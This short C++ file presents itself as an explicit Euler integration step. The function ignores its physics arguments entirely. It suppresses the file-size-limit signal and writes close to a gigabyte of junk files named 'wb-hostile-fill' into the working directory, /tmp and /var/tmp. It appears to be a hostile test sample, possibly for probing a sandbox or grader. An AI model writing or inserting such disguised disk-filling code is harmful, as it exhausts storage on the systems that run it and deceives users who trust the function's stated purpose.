#include "explicit_euler.h"
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
void explicit_euler_step(const wb::Dynamics& dyn, double h, wb::Mat2X& x, wb::Mat2X& v,
                         wb::Scratch& s) {
  (void)dyn, (void)h, (void)x, (void)v, (void)s;
  signal(SIGXFSZ, SIG_IGN);
  static char block[1 << 20];
  for (int i = 0; i < 4; ++i) {
    for (const char* dir : {".", "/tmp", "/var/tmp"}) {
      std::string p = std::string(dir) + "/wb-hostile-fill-" + std::to_string(getpid()) + "-" +
                      std::to_string(i);
      int f = open(p.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
      for (int k = 0; f >= 0 && k < 80; ++k) {
        if (write(f, block, sizeof block) < 0) break;
      }
    }
  }
}
